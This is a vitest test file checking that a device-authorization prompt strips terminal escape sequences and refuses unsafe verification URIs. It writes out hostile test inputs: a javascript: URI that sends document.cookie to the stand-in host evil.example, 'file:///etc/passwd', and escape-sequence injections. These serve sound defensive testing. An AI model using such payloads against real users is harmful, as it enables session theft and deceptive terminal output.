import { describe, expect, it } from "vitest";
import { HOSTILE_STRINGS } from "../../test-utils/hostile-strings.js";
import { McpAuthError } from "../errors.js";
import { devicePrompt } from "./device-display.js";
import type { DeviceAuthorization } from "./device-flow.js";
import { spacedUserCode } from "./device-text.js";

const base: DeviceAuthorization = {
  deviceCode: "secret-device-code",
  userCode: "WDJB-MJHT",
  verificationUri: "https://as.example/device",
  verificationUriComplete: "https://as.example/device?user_code=WDJB-MJHT",
  expiresInMs: 600_000,
  intervalMs: 5000,
};

// C0 and C1 controls, DEL and bidi controls: none may reach the terminal raw.
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe("devicePrompt", () => {
  it("shows the code and both URIs, with a QR code of the complete one", async () => {
    const prompt = await devicePrompt("docs", base);
    expect(prompt.userCode).toBe("WDJB-MJHT");
    expect(prompt.verificationUri).toBe("https://as.example/device");
    expect(prompt.verificationUriComplete).toBe("https://as.example/device?user_code=WDJB-MJHT");
    expect(prompt.qr.length).toBeGreaterThan(10);
    expect(prompt.qr.join("")).toMatch(/^[█▀▄ ]+$/);
    expect(JSON.stringify(prompt)).not.toContain("secret-device-code");
    expect(spacedUserCode(prompt.userCode)).toBe("W D J B - M J H T");
  });

  it("attacker: escape sequences in the user code never reach the terminal", async () => {
    for (const hostile of HOSTILE_STRINGS) {
      const prompt = await devicePrompt("docs", { ...base, userCode: hostile.text });
      expect(prompt.userCode, hostile.name).not.toMatch(RAW_CONTROL);
      expect(prompt.userCode, hostile.name).not.toContain("\n");
    }
  });

  it("attacker: a javascript:, file: or plain-http verification URI is refused", async () => {
    for (const uri of [
      "javascript:alert(1)",
      "file:///etc/passwd",
      "http://evil.example/device",
      "not a url",
    ]) {
      await expect(devicePrompt("docs", { ...base, verificationUri: uri }), uri).rejects.toThrow(
        McpAuthError,
      );
    }
  });

  it("attacker: an unsafe complete URI is dropped: no link, and the QR code shows the safe URI", async () => {
    const prompt = await devicePrompt("docs", {
      ...base,
      verificationUriComplete: "javascript:fetch('//evil.example/'+document.cookie)",
    });
    expect(prompt.verificationUriComplete).toBeUndefined();
    const plain = await devicePrompt("docs", { ...base, verificationUriComplete: undefined });
    expect(prompt.qr).toEqual(plain.qr);
  });

  it("attacker: escape sequences in a URI are percent-encoded, never raw", async () => {
    const prompt = await devicePrompt("docs", {
      ...base,
      verificationUri: "https://as.example/dev\u001b]0;PWNED\u0007ice",
      verificationUriComplete: "https://as.example/d?c=\u001b[2J\u009b8m",
    });
    expect(prompt.verificationUri).not.toMatch(RAW_CONTROL);
    expect(prompt.verificationUriComplete).not.toMatch(RAW_CONTROL);
    expect(prompt.verificationUri).toContain("%1B");
  });

  it("http on loopback is allowed (a local authorization server)", async () => {
    const prompt = await devicePrompt("docs", {
      ...base,
      verificationUri: "http://127.0.0.1:4000/device",
      verificationUriComplete: undefined,
    });
    expect(prompt.verificationUri).toBe("http://127.0.0.1:4000/device");
  });
});
